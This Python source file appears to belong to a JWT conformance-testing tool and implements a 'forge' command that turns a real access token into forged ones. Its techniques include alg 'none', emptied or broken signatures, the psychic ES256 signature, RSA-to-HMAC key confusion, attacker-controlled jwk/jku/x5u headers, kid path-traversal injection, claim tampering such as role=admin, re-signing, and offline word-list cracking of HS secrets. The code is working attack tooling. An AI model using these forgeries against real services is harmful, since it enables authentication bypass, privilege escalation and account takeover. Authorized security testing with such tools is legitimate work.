"""``authconform forge``: the suite's forgeries, built from a token the person supplies.

Each subcommand prints one forged token on stdout (``FORGED=$(authconform forge ...)``), notes on
stderr; ``crack`` prints the secret it found. A report's reproducer is such a line followed by the
curl that sends ``$FORGED``, so a finding can be repeated with a token of the reader's own.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
from pathlib import Path
from typing import Any

from conformance import exitcodes
from conformance.attacks import confusion, cracking, forging, headers

# How long ``key-confusion --jwks URL`` waits for the key set.
JWKS_TIMEOUT = 10.0
BASE_URL_ENV = "BASE_URL"


class ForgeError(Exception):
    """The input cannot be forged from; the message says what was wrong and what to do."""


def add_parser(commands: Any) -> None:
    """Add the ``forge`` command to the main parser's subcommands."""
    forge = commands.add_parser("forge", help="print a forged token built from a token you supply (or crack its "
                                              "HS secret)")
    kinds = forge.add_subparsers(dest="forgery", required=True, parser_class=type(forge), metavar="FORGERY")

    def kind(name: str, help_text: str, aliases: tuple[str, ...] = ()) -> argparse.ArgumentParser:
        parser: argparse.ArgumentParser = kinds.add_parser(name, help=help_text, aliases=list(aliases))
        parser.add_argument("--token", required=True, help='a real access token ("-": read it from stdin)')
        return parser

    alg_none = kind("alg-none", 'alg "none" (any spelling) and an empty signature', ("none",))
    alg_none.add_argument("--alg", default="none", help='the spelling of "none" (e.g. None, NONE, nOnE)')
    sig_null = kind("sig-null", "the signature segment emptied")
    sig_null.add_argument("--drop-dot", action="store_true", help="cut the last dot too (two segments)")
    kind("sig-broken", "one character of the signature changed")
    psychic = kind("psychic", "ES256 with the signature r = s = 0 (CVE-2022-21449)")
    psychic.add_argument("--encoding", choices=sorted(forging.PSYCHIC_SIGNATURES), default="raw")
    confused = kind("key-confusion", "HS256 keyed with the target's RSA public key")
    where = confused.add_mutually_exclusive_group(required=True)
    where.add_argument("--jwks", metavar="URL_OR_FILE",
                       help=f"the target's JWKS: a URL, a path on ${BASE_URL_ENV}, or a JSON file")
    where.add_argument("--pem", metavar="FILE", help="the RSA public key as a PEM file")
    confused.add_argument("--key-index", type=int, default=1, help="which RSA key of the JWKS (from 1)")
    confused.add_argument("--encoding", choices=confusion.ENCODING_NAMES, default="spki-pem",
                          help="which bytes of the public key are the HMAC secret")
    jwk = kind("jwk", "signed with the attacker's key, its public half in a jwk header")
    jwk.add_argument("--kty", choices=headers.JWK_KINDS, default="rsa")
    for parameter, document in (("jku", "key set"), ("x5u", "certificate")):
        remote = kind(parameter, f"signed with the attacker's key, {parameter} naming a URL that serves its {document}")
        remote.add_argument("url", metavar="URL")
        remote.add_argument("--out", metavar="FILE", help=f"write the {document} URL must serve here")
    kid = kind("kid", "HS256 with an injected kid, signed with the key the injection selects")
    kid.add_argument("payload", metavar="PAYLOAD", help="the kid, e.g. ../../../../dev/null")
    kid.add_argument("--key", default="", help="the HMAC key the payload makes the verifier load (default: empty)")
    kid.add_argument("--escapes", action="store_true", help="PAYLOAD and --key use backslash escapes (\\x00, \\n)")
    claims = kind("claims", "claims changed, the original signature kept")
    claims.add_argument("changes", nargs="+", metavar="NAME=VALUE", help="e.g. sub=42 role=admin (JSON values)")
    resign = kind("resign", "signed again with a key you know (a cracked secret, a leaked private key)")
    resign.add_argument("changes", nargs="*", metavar="NAME=VALUE", help="claims to change first")
    key = resign.add_mutually_exclusive_group(required=True)
    key.add_argument("--key", help="the HMAC secret")
    key.add_argument("--key-file", metavar="FILE", help="a file holding the secret or a PEM private key")
    resign.add_argument("--alg", help="the algorithm (default: the token's)")
    crack = kind("crack", "find the token's HS secret in the bundled list and your word lists, offline")
    crack.add_argument("--wordlist", action="append", default=[], metavar="PATH", help="repeatable, any size")
    crack.add_argument("--no-bundled", action="store_true", help="skip the bundled list of defaults")
    crack.add_argument("--workers", type=int, default=0, help="processes (default: every usable core)")


def main(args: argparse.Namespace) -> int:
    try:
        token = _token(args.token)
        if args.forgery == "crack":
            return _crack(token, args)
        print(forged(token, args))
    except ForgeError as exc:
        print(f"authconform forge: {exc}", file=sys.stderr)
        return exitcodes.USAGE_OR_PROFILE
    return exitcodes.OK


def forged(token: str, args: argparse.Namespace) -> forging.Forged:
    """The forgery ``args`` asks for, built from ``token``."""
    kind = args.forgery
    try:
        if kind in ("alg-none", "none"):
            return forging.alg_none(token, args.alg)
        if kind == "sig-null":
            return forging.signature_null(token, drop_dot=args.drop_dot)
        if kind == "sig-broken":
            return forging.signature_broken(token)
        if kind == "psychic":
            return forging.psychic(token, args.encoding)
        if kind == "key-confusion":
            return _key_confusion(token, args)
        if kind == "jwk":
            return headers.embedded_jwk(token, args.kty)
        if kind in ("jku", "x5u"):
            return _remote(token, kind, args)
        if kind == "kid":
            decode = headers.unescaped if args.escapes else str
            return headers.kid_injection(token, decode(args.payload), decode(args.key).encode())
        if kind == "claims":
            return forging.tampered(token, dict(forging.parse_assignment(item) for item in args.changes))
        if kind == "resign":
            changes = dict(forging.parse_assignment(item) for item in args.changes)
            secret: str | bytes = args.key if args.key is not None else _read(args.key_file, "--key-file")
            return forging.resigned(token, secret, algorithm=args.alg, changes=changes,
                                    shown_key="$SECRET" if args.key is None else None)
    except ValueError as exc:
        raise ForgeError(str(exc)) from None
    raise ForgeError(f"unknown forgery {kind!r}")


def _token(value: str) -> str:
    text = (sys.stdin.read() if value == "-" else value).strip()
    if text.lower().startswith("bearer "):
        text = text[7:].strip()
    try:
        forging.header_of(text), forging.claims_of(text)
    except (ValueError, TypeError, UnicodeDecodeError):
        raise ForgeError("--token is not a JWS compact token (base64url header.payload.signature with JSON "
                         "header and payload); pass the access token itself") from None
    return text


def _read(path: str, option: str) -> bytes:
    try:
        return Path(path).read_bytes()
    except OSError as exc:
        raise ForgeError(f"{option} {path}: {exc.strerror or exc}") from None


def _key_confusion(token: str, args: argparse.Namespace) -> forging.Forged:
    if args.pem:
        jwk, source = confusion.jwk_of_pem(_read(args.pem, "--pem")), args.pem
        keys = [jwk]
    else:
        source = args.jwks
        keys = confusion.rsa_jwks_keys(_jwks_document(args.jwks))
    if not 1 <= args.key_index <= len(keys):
        raise ForgeError(f"the key set holds {len(keys)} RSA key(s); --key-index {args.key_index} names none")
    jwk = keys[args.key_index - 1]
    encoding = next(e for e in confusion.encodings(jwk) if e.name == args.encoding)
    return confusion.key_confusion(token, jwk, encoding, source=source, key_index=args.key_index)


def _jwks_document(where: str) -> Any:
    if where.startswith("/") and not os.path.exists(where):  # a path on the target, as a report writes it
        base = os.environ.get(BASE_URL_ENV, "")
        if not base:
            raise ForgeError(f"--jwks {where} is a path: set {BASE_URL_ENV} to the target's base URL, or give "
                             "the whole URL")
        where = base.rstrip("/") + where
    if where.startswith(("http://", "https://")):
        import requests

        try:
            answer = requests.get(where, timeout=JWKS_TIMEOUT, allow_redirects=False)
            answer.raise_for_status()
            return answer.json()
        except (requests.RequestException, ValueError) as exc:
            raise ForgeError(f"could not read a JWKS from {where}: {exc}") from None
    try:
        return json.loads(_read(where, "--jwks"))
    except ValueError:
        raise ForgeError(f"--jwks {where} is not a JSON key set") from None


def _remote(token: str, parameter: str, args: argparse.Namespace) -> forging.Forged:
    if args.out:
        document = (json.dumps(headers.attacker_jwks(), indent=1).encode() if parameter == "jku"
                    else headers.attacker_certificate())
        Path(args.out).write_bytes(document)
        print(f"serve {args.out} at {args.url}", file=sys.stderr)
    else:
        print(f"the token verifies only with this run's attacker key: add --out FILE to save what {args.url} "
              "must serve", file=sys.stderr)
    return headers.remote_key(token, parameter, args.url)


def _crack(token: str, args: argparse.Namespace) -> int:
    algorithm = str(forging.header_of(token).get("alg"))
    try:
        found = cracking.crack(token, algorithm, args.wordlist, bundled=not args.no_bundled,
                               workers=args.workers or None)
    except (ValueError, FileNotFoundError) as exc:
        raise ForgeError(str(exc)) from None
    if found is None:
        print(f"not found in {'the bundled list and ' if not args.no_bundled else ''}"
              f"{len(args.wordlist)} word list(s)", file=sys.stderr)
        return exitcodes.CONFORMANCE_FAILURE
    print(found.text)
    print(f"entry {found.entry} of {found.wordlist.name}", file=sys.stderr)
    return exitcodes.OK
